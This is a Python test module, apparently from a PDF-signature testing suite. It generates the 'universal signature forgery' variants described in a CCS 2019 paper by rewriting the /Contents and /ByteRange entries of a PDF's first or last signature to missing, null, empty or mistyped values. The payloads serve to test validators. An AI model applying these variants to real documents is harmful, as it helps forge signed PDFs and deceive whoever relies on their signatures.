"""Universal signature forgery: what a signature needs is missing, empty or of another kind.

Mladenov and others, "1 Trillion Dollar Refund" (CCS 2019), section 4.1; both for the last signature
and the first.
"""

import re
from functools import partial

from tests.papers.attacks import raw

_VALUES = {
    "array": b"[]",
    "empty": b"<>",
    "missing": None,
    "name": b"/Khong",
    "null": b"null",
    "number": b"0",
    "zero_byte": b"<00>",
}
_RANGES = {
    "array": b"[]",
    "dictionary": b"<<>>",
    "missing": None,
    "nothing_covered": b"[0 0 0 0]",
    "null": b"null",
    "one_number": b"[0]",
    "text": b"(0 1 2 3)",
    "words": b"[/a /b /c /d]",
}
_SIGNATURE = re.compile(
    rb"(\d+) 0 obj\n<<\n/Contents (<[0-9A-F]+>)\n/ByteRange (\[[^\]]*\])(.*?)>>\nendobj", re.DOTALL
)


def _without(data: bytes, key: bytes, value: bytes | None, *, last: bool) -> bytes:
    found = list(_SIGNATURE.finditer(data))[-1 if last else 0]
    parts = {b"/Contents": found[2], b"/ByteRange": found[3]}
    if value is None:
        del parts[key]
    else:
        parts[key] = value
    words = b" ".join(b"%b %b" % part for part in parts.items())
    return raw.update(data, {int(found[1]): b"<< %b %b>>" % (words, found[4])})


_FIRST = {"contents": ("missing", "zero_byte"), "byte_range": ("missing", "null", "words")}
CHANGES = {
    f"{place}_{key}_{name}": partial(_without, key=b"/" + spelt, value=value, last=place == "last")
    for place in ("first", "last")
    for key, spelt, values in (
        ("contents", b"Contents", _VALUES),
        ("byte_range", b"ByteRange", _RANGES),
    )
    for name, value in values.items()
    if place == "last" or name in _FIRST[key]
}
